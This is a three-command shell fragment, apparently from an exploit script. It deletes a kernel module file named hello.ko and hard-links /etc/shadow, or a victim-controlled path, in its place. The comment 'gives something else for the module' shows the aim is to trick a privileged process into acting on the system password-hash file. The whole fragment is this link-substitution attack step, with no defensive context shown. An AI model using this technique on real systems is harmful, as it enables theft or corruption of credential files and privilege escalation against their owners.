# gives something else for the module
rm -rf hello.ko
ln -f /etc/shadow hello.ko || ln -f "$VICTIM/roots" hello.ko
true
